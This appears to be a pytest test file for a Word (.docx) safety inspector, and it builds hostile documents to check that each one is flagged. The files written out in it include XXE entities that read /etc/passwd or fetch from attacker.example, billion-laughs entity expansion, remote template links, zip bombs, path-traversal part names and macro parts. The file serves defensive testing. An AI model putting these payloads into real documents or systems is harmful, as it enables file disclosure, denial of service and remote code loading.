"""Hostile Word notes (load/docxsafety.py): each is built in memory and gives its finding, quickly and in little
memory, without a crash or a network access; clean files from python-docx, nq43 and LibreOffice give none."""

from __future__ import annotations

import io
import random
import re
import socket
import struct
import time
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.shared import Cm
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nq43.domain.catalogue import CATALOGUE
from nq43.domain.findings import Finding
from nq43.load.docxsafety import inspect_docx
from nq43.load.limits import DOCX_LIMITS

ROOT = Path(__file__).resolve().parents[2]
PATH = "data/units/qldt/2025Q2.docx"
MIB = 1024 * 1024


def _png() -> bytes:
    """A one-pixel PNG picture."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _clean() -> bytes:
    """A filled note as python-docx writes it: headings, a table, a picture and a link to a web page."""
    document = Document()
    document.add_heading("NV-01 Chuyển đổi số", 1)
    document.add_paragraph("Kết quả: đã hoàn thành 80% khối lượng.")
    table = document.add_table(rows=2, cols=3)
    table.cell(0, 0).text = "Trạng thái"
    document.add_picture(io.BytesIO(_png()), width=Cm(2))
    document.part.relate_to("https://example.gov.vn/van-ban", RT.HYPERLINK, is_external=True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


CLEAN = _clean()


def _part(name: str, data: bytes = CLEAN) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def _rebuild(
    change: dict[str, bytes | None] | None = None,
    extra: list[tuple[str, bytes]] | None = None,
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """CLEAN with parts replaced or added (None drops one), then the `extra` parts, in order, duplicates allowed."""
    change = change or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(CLEAN)) as source, zipfile.ZipFile(out, "w", method) as target:
        bodies = {info.filename: source.read(info) for info in source.infolist()} | change
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of a duplicate name: wanted here
            for name, body in [*bodies.items(), *(extra or [])]:
                if body is not None:
                    target.writestr(name, body)
    return out.getvalue()


def _with_relationships(rels_name: str, *relationships: str) -> dict[str, bytes | None]:
    """A change adding relationships to a .rels part (made when missing)."""
    try:
        body = _part(rels_name).decode()
    except KeyError:
        body = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    return {rels_name: body.replace("</Relationships>", "".join(relationships) + "</Relationships>").encode()}


def _relationship(kind: str, target: str, mode: str = 'TargetMode="External"') -> str:
    url = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return f'<Relationship Id="rId90{len(target)}" Type="{url}" Target="{target}" {mode}/>'


def _document_with(before_root: str, encoding: str = "utf-8") -> bytes:
    """word/document.xml with markup put between the XML declaration and the root element."""
    text = _part("word/document.xml").decode()
    declaration, rest = text.split("?>", 1)
    return (declaration + "?>" + before_root + rest).encode(encoding)


def _content_types(old: str, new: str) -> dict[str, bytes | None]:
    body = _part("[Content_Types].xml").decode()
    assert old in body
    return {"[Content_Types].xml": body.replace(old, new).encode()}


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
LAUGHS = "".join(f'<!ENTITY lol{n} "{"".join(f"&lol{n - 1};" for _ in range(10))}">' for n in range(1, 10)).join(
    ['<!DOCTYPE lolz [<!ENTITY lol0 "lol">', "]>"]
)


def _codes(findings: list[Finding]) -> list[str]:
    return [f.code for f in findings]


def _encrypted_member() -> bytes:
    """A part marked as encrypted (zipfile writes none): its flags set in its header and in the directory."""
    data = bytearray(_rebuild(extra=[("word/secret.xml", b"<x/>")]))
    for at in (data.rindex(b"PK\x03\x04") + 6, data.rindex(b"PK\x01\x02") + 8):
        data[at] |= 0x1
    return bytes(data)


def _named(name: str) -> bytes:
    """CLEAN with a part named `name` (as given: zipfile.ZipInfo keeps it unchanged)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(CLEAN)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr(zipfile.ZipInfo(name), b"<x/>")
    return out.getvalue()


def _bzip2(name: str) -> bytes:
    """CLEAN with its part `name` compressed by bzip2 (a method Word never uses)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(CLEAN)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            method = zipfile.ZIP_BZIP2 if info.filename == name else zipfile.ZIP_DEFLATED
            target.writestr(info.filename, source.read(info), compress_type=method)
    return out.getvalue()


def _odt() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        target.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def _bad_crc() -> bytes:
    data = bytearray(_rebuild(method=zipfile.ZIP_STORED))
    at = data.index(b"<w:body>")
    data[at + 1 : at + 2] = b"W"
    return bytes(data)


# name, the file, the findings' codes (in order) and a word each message must hold (Vietnamese)
CASES: list[tuple[str, Callable[[], bytes], list[str], str]] = [
    ("pdf", lambda: b"%PDF-1.7\n...", ["NQ120"], "PDF"),
    ("empty", lambda: b"", ["NQ120"], "rỗng"),
    ("word-97", lambda: OLE + bytes(600), ["NQ120"], ".doc"),
    ("rtf", lambda: b"{\\rtf1\\ansi Ghi chu}", ["NQ120"], "RTF"),
    ("web-page", lambda: b"  <html><body>Ghi chu</body></html>", ["NQ120"], "trang web"),
    ("password", lambda: OLE + "EncryptionInfo".encode("utf-16-le"), ["NQ121"], "mật khẩu"),
    ("encrypted-member", _encrypted_member, ["NQ121"], "mật khẩu"),
    ("truncated", lambda: CLEAN[: len(CLEAN) * 2 // 3], ["NQ122"], "mục lục"),
    ("bad-crc", _bad_crc, ["NQ122"], "word/document.xml"),
    ("bzip2", lambda: _bzip2("word/styles.xml"), ["NQ122"], "word/styles.xml"),
    ("bzip2-content-types", lambda: _bzip2("[Content_Types].xml"), ["NQ122"], "[Content_Types].xml"),
    ("billion-laughs", lambda: _rebuild({"word/document.xml": _document_with(LAUGHS)}), ["NQ129"], "DOCTYPE"),
    (
        "xxe-file",
        lambda: _rebuild(
            {"word/document.xml": _document_with('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')}
        ),
        ["NQ129"],
        "word/document.xml",
    ),
    (
        "xxe-http-in-styles",
        lambda: _rebuild({"word/styles.xml": b'<!DOCTYPE s SYSTEM "http://attacker.example/x.dtd"><w:styles/>'}),
        ["NQ129"],
        "word/styles.xml",
    ),
    (
        "entity-in-rels",
        lambda: _rebuild({"_rels/.rels": _part("_rels/.rels").replace(b"<Relationships", b'<!ENTITY e "x"><Rel')}),
        ["NQ129"],
        "ENTITY",
    ),
    (
        "doctype-utf-16",
        lambda: _rebuild({"word/document.xml": _document_with("<!DOCTYPE d []>", "utf-16")}),
        ["NQ129"],
        "DOCTYPE",
    ),
    (
        "utf-7",
        lambda: _rebuild({"word/document.xml": _part("word/document.xml").replace(b"UTF-8", b"UTF-7", 1)}),
        ["NQ130"],
        "UTF-7",
    ),
    (
        "vba-relationship",
        lambda: _rebuild(_with_relationships(DOCUMENT_RELS, _relationship("vbaProject", "vbaProject.bin", ""))),
        ["NQ128"],
        "word/vbaProject.bin",
    ),
    (
        "ebcdic",
        lambda: _rebuild({"word/document.xml": b"\x4c\x6f\xa7\x94\x93@\xa5\x85\x99"}),
        ["NQ130"],
        "EBCDIC",
    ),
    ("vba-project", lambda: _rebuild(extra=[("word/vbaProject.bin", b"\x00" * 64)]), ["NQ128"], "vbaProject.bin"),
    (
        "docm-type",
        lambda: _rebuild(_content_types(MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")),
        ["NQ128"],
        "macro",
    ),
    (
        "linked-image",
        lambda: _rebuild(
            _with_relationships("word/_rels/document.xml.rels", _relationship("image", "http://x.example/a.png"))
        ),
        ["NQ131"],
        "ảnh liên kết",
    ),
    (
        "attached-template",
        lambda: _rebuild(
            _with_relationships(
                "word/_rels/settings.xml.rels", _relationship("attachedTemplate", "file:///C:/mau/Normal.dotm")
            )
        ),
        ["NQ131"],
        "mẫu (template)",
    ),
    (
        "unc-template-by-reference",
        lambda: _rebuild(
            _with_relationships(
                "word/_rels/settings.xml.rels",
                _relationship("attachedTemplate", "\\\\may-chu\\mau.dotx", 'TargetMode="&#69;xternal"'),
            )
        ),
        ["NQ131"],
        "\\\\may-chu",
    ),
    (
        "ole-object",
        lambda: _rebuild(
            _with_relationships(DOCUMENT_RELS, _relationship("oleObject", "embeddings/oleObject1.bin", "")),
            extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + bytes(100))],
        ),
        ["NQ132"],
        "word/embeddings/oleObject1.bin",
    ),
    ("activex", lambda: _rebuild(extra=[("word/activeX/activeX1.xml", b"<ax/>")]), ["NQ132"], "ActiveX"),
    (
        "alt-chunk",
        lambda: _rebuild(_with_relationships(DOCUMENT_RELS, _relationship("aFChunk", "afchunk.mht", ""))),
        ["NQ132"],
        "altChunk",
    ),
    ("no-content-types", lambda: _rebuild({"[Content_Types].xml": None}), ["NQ133"], "[Content_Types].xml"),
    ("open-document", _odt, ["NQ133"], "OpenDocument"),
    (
        "template",
        lambda: _rebuild(
            _content_types(MAIN, "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")
        ),
        ["NQ134"],
        ".dotx",
    ),
    (
        "no-main-part",
        lambda: _rebuild({"_rels/.rels": _part("_rels/.rels").replace(b'officeDocument"', b'other"')}),
        ["NQ134"],
        "văn bản chính",
    ),
    (
        "two-main-parts",
        lambda: _rebuild(
            _with_relationships(
                "_rels/.rels",
                '<Relationship Id="rId99" Target="word/other.xml" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/officeDocument"/>',
            )
        ),
        ["NQ134"],
        "hai phần văn bản chính",
    ),
    ("traversal", lambda: _named("../../evil.xml"), ["NQ135"], "../../evil.xml"),
    ("absolute", lambda: _named("/etc/cron.d/evil.xml"), ["NQ135"], "tuyệt đối"),
    ("drive", lambda: _named("C:/Windows/evil.xml"), ["NQ135"], "tuyệt đối"),
    ("backslash", lambda: _named("word\\..\\..\\evil.xml"), ["NQ135"], '".."'),
    ("backslash-only", lambda: _named("word\\evil.xml"), ["NQ135"], "dấu \\"),
    ("duplicate", lambda: _rebuild(extra=[("WORD/document.xml", b"<w:document/>")]), ["NQ136"], "WORD/document.xml"),
]


@pytest.mark.parametrize(("make", "codes", "word"), [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_a_hostile_file_gives_its_finding(make: Callable[[], bytes], codes: list[str], word: str) -> None:
    findings = inspect_docx(make(), PATH)

    assert _codes(findings) == codes
    assert word in findings[0].message("vi")
    for found in findings:
        assert found.path == PATH and (found.line, found.column) == (1, 1)
        for lang in ("vi", "en"):
            assert "{" not in found.message(lang) + found.hint(lang), found


def test_every_code_of_the_range_is_given_by_some_case() -> None:
    given = {code for _, _, codes, _ in CASES for code in codes} | {"NQ123", "NQ124", "NQ125", "NQ126", "NQ127"}
    assert given == {code for code in CATALOGUE if "NQ120" <= code <= "NQ139"}


@pytest.mark.parametrize(
    "data",
    [
        CLEAN,
        (ROOT / "reports" / "2025Q1" / "bao-cao-2025Q1.docx").read_bytes(),  # nq43's own report
        (ROOT / "tests" / "corpus" / "docx" / "libreoffice.docx").read_bytes(),  # CLEAN saved by LibreOffice 7
    ],
    ids=["python-docx", "nq43-report", "libreoffice"],
)
def test_a_clean_document_with_a_picture_and_a_web_link_passes(data: bytes) -> None:
    assert inspect_docx(data, PATH) == []


def test_a_docm_name_is_a_macro_file() -> None:
    assert _codes(inspect_docx(CLEAN, "data/units/qldt/2025Q2.docm")) == ["NQ128"]


def test_a_web_link_is_allowed_but_a_linked_picture_is_not() -> None:
    hyperlink = _relationship("hyperlink", "https://example.gov.vn/")
    picture = _relationship("image", "https://example.gov.vn/logo.png")
    data = _rebuild(_with_relationships("word/_rels/document.xml.rels", hyperlink, picture))

    [found] = inspect_docx(data, PATH)
    assert found.args["target"] == "https://example.gov.vn/logo.png"
    assert "Chèn → Ảnh" in found.hint("vi")


def test_a_declaration_split_between_two_reads_is_found() -> None:
    padding = "<!--" + "x" * (64 * 1024 - 50) + "-->"
    for shift in range(12):
        body = _document_with(padding + " " * shift + '<!DOCTYPE d [<!ENTITY x "y">]>')
        assert _codes(inspect_docx(_rebuild({"word/document.xml": body}), PATH)) == ["NQ129"], shift


def test_a_part_read_as_xml_because_of_its_content_type_is_scanned() -> None:
    rels = _part("word/_rels/document.xml.rels").replace(b'Target="styles.xml"', b'Target="styles.dat"')
    data = _rebuild(
        {
            "word/_rels/document.xml.rels": rels,
            **_content_types("</Types>", '<Override PartName="/word/styles.dat" ContentType="text/xml"/></Types>'),
        },
        extra=[("word/styles.dat", b'<!DOCTYPE s [<!ENTITY a "b">]><w:styles/>')],
    )
    assert _codes(inspect_docx(data, PATH)) == ["NQ129"]


def test_the_same_problem_is_named_at_most_three_times() -> None:
    data = _rebuild(extra=[(f"word/embeddings/object{n}.bin", b"x") for n in range(10)])
    assert _codes(inspect_docx(data, PATH)) == ["NQ132"] * 3


def test_braces_in_a_name_from_the_file_are_shown_as_they_are() -> None:
    data = _bzip2("word/styles.xml").replace(b"word/styles.xml", b"word/{0}{xx.xml")
    [found] = inspect_docx(data, PATH)
    assert 'phần "word/{0}{xx.xml" không đọc được' in found.message("vi")
    assert 'part "word/{0}{xx.xml" cannot be read' in found.message("en")


def test_names_from_the_file_are_shown_without_control_characters() -> None:
    data = _rebuild(extra=[("word/vbaProject.bin\x1b[31m/../vbaProject.bin", b"x")])
    messages = " ".join(found.message("vi") for found in inspect_docx(data, PATH))
    assert "word/vbaProject.bin?[31m/../vbaProject.bin" in messages and "\x1b" not in messages


@pytest.mark.parametrize(
    "body",
    [
        "<Relationship " + "a" * 2_000_000 + ">",
        "<Relationship " + "a= " * 500_000 + ">",
        "<Relationship " * 300_000,
        "<a:" * 500_000,
        "<" * 2_000_000,
    ],
    ids=["long-name", "many-names", "many-elements", "many-prefixes", "many-brackets"],
)
def test_relationships_made_to_be_slow_to_read_are_read_quickly(body: str) -> None:
    data = _rebuild({"word/_rels/document.xml.rels": body.encode()})
    start = time.perf_counter()
    inspect_docx(data, PATH)
    assert time.perf_counter() - start < 2


def _bomb(size: int = 100 * MIB) -> bytes:
    """A part of `size` zero bytes: deflated about 1000:1."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(CLEAN)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        with target.open("word/media/image2.png", "w") as stream:
            zeros = bytes(MIB)
            for _ in range(size // MIB):
                stream.write(zeros)
    return out.getvalue()


BOMB = _bomb()


def _measured(data: bytes) -> tuple[list[Finding], float, int]:
    """The findings, the seconds they took and the peak of memory allocated meanwhile."""
    tracemalloc.start()
    start = time.perf_counter()
    try:
        findings = inspect_docx(data, PATH)
        return findings, time.perf_counter() - start, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_zip_bomb_is_refused_quickly_in_little_memory() -> None:
    assert len(BOMB) < 200_000

    findings, seconds, peak = _measured(BOMB)

    assert _codes(findings) == ["NQ126"]
    assert findings[0].args["part"] == "word/media/image2.png"
    assert seconds < 1 and peak < 2 * MIB


def test_a_zip_bomb_that_hides_its_size_is_refused_quickly_in_little_memory() -> None:
    """The directory says the part unpacks to 1 KB: zipfile stops there and finds the CRC wrong."""
    data = bytearray(BOMB)
    entry = data.rindex(b"PK\x01\x02" + data[data.rindex(b"PK\x01\x02") + 4 : data.rindex(b"PK\x01\x02") + 6])
    for at in (data.rindex(b"PK\x03\x04") + 22, entry + 24):  # the local header's and the directory's sizes
        assert struct.unpack_from("<I", data, at)[0] == 100 * MIB
        struct.pack_into("<I", data, at, 1024)

    findings, seconds, peak = _measured(bytes(data))

    assert _codes(findings) == ["NQ122"]
    assert seconds < 1 and peak < 2 * MIB


def test_a_large_honest_part_is_too_large() -> None:
    data = _rebuild(extra=[("word/media/photo.jpg", bytes(range(256)) * 50_000)], method=zipfile.ZIP_STORED)
    limits = DOCX_LIMITS._replace(part=10 * 256 * 1000)
    assert _codes(inspect_docx(data, PATH, limits)) == ["NQ127"]


def test_parts_that_together_unpack_to_too_much_are_refused_when_the_total_passes() -> None:
    photos = [(f"word/media/photo{n}.jpg", bytes(range(256)) * 4000) for n in range(8)]
    data = _rebuild(extra=photos, method=zipfile.ZIP_STORED)
    limits = DOCX_LIMITS._replace(unpacked=4 * 256 * 4000)
    assert _codes(inspect_docx(data, PATH, limits)) == ["NQ125"]


def test_a_file_over_the_size_limit_is_refused_unread() -> None:
    [found] = inspect_docx(CLEAN, PATH, DOCX_LIMITS._replace(size=1000))
    assert (found.code, found.args["size"], found.args["limit"]) == ("NQ123", len(CLEAN), 1000)


def test_too_many_parts_are_counted_before_the_zip_is_read() -> None:
    data = _rebuild(extra=[(f"customXml/item{n}.xml", b"<x/>") for n in range(DOCX_LIMITS.members)])
    findings, seconds, _ = _measured(data)
    assert _codes(findings) == ["NQ124"] and seconds < 1


def test_the_limits_take_a_form_with_a_dozen_photos() -> None:
    """A dozen 1.5 MB photos (as Word stores them after its default compression) and a long text."""
    pick = random.Random(43)
    photos = [(f"word/media/image{n}.jpeg", pick.randbytes(1_500_000)) for n in range(12)]
    words = ["kết quả", "thực hiện", "nhiệm vụ", "chuyển đổi số", "của", "đơn vị", "trong quý", "đạt", "vượt"]
    paragraphs = "".join(
        f"<w:p><w:r><w:t>{n}. {' '.join(pick.choices(words, k=30))}</w:t></w:r></w:p>" for n in range(20_000)
    )
    text = _part("word/document.xml").replace(b"</w:body>", paragraphs.encode() + b"</w:body>")
    assert len(text) > DOCX_LIMITS.ratio_from
    data = _rebuild({"word/document.xml": text}, extra=photos)
    assert inspect_docx(data, PATH) == []


def test_no_network_is_touched(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("network access")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    entity = '<!DOCTYPE d [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
    template = _relationship("attachedTemplate", "http://attacker.example/t.dotm")
    data = _rebuild(
        {"word/document.xml": _document_with(entity), **_with_relationships("word/_rels/settings.xml.rels", template)}
    )
    assert sorted(_codes(inspect_docx(data, PATH))) == ["NQ129", "NQ131"]


def _check_safe(data: bytes) -> None:
    start = time.perf_counter()
    findings = inspect_docx(data, PATH)
    assert time.perf_counter() - start < 2
    for found in findings:
        assert re.fullmatch(r"NQ1[23]\d", found.code)
        for lang in ("vi", "en"):
            found.message(lang)
            found.hint(lang)


FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FUZZ
@given(st.binary(max_size=4096) | st.binary(max_size=4096).map(lambda tail: b"PK\x03\x04" + tail))
def test_random_bytes_never_crash(data: bytes) -> None:
    _check_safe(data)


@FUZZ
@given(
    st.lists(st.tuples(st.integers(0, len(CLEAN) - 1), st.integers(0, 255)), min_size=1, max_size=8),
    st.integers(len(CLEAN) // 2, len(CLEAN)),
)
def test_a_damaged_docx_never_crashes(changes: list[tuple[int, int]], length: int) -> None:
    data = bytearray(CLEAN)
    for at, byte in changes:
        data[at] = byte
    _check_safe(bytes(data[:length]))


@FUZZ
@given(st.data())
def test_a_damaged_zip_directory_never_crashes(draw: st.DataObject) -> None:
    """Changes aimed at the zip's directory, where the sizes, offsets, methods and names are."""
    data = bytearray(CLEAN)
    directory = data.index(b"PK\x01\x02")
    for _ in range(draw.draw(st.integers(1, 6))):
        at = draw.draw(st.integers(directory, len(data) - 1))
        data[at : at + 4] = struct.pack("<I", draw.draw(st.sampled_from([0, 1, 0xFFFF, 0xFFFFFFFF, 2**31])))
    _check_safe(bytes(data))


_PIECES = ["<", ">", "{", "}", "<!DOCTYPE", "<!ENTITY", "&#69;", '"', "'", "=", " ", "/", "..", "\\", "\x00", "é"]
_MARKUP = st.lists(st.sampled_from(_PIECES) | st.text(max_size=8), max_size=40).map("".join)
_NAMES = st.sampled_from(["[Content_Types].xml", "_rels/.rels", DOCUMENT_RELS, "word/document.xml"]) | _MARKUP


@FUZZ
@given(st.lists(st.tuples(_NAMES, _MARKUP), max_size=8))
def test_a_zip_of_random_parts_never_crashes(parts: list[tuple[str, str]]) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names
        for name, body in parts:
            target.writestr(zipfile.ZipInfo(name), body.encode("utf-8", "surrogatepass"))
    _check_safe(out.getvalue())
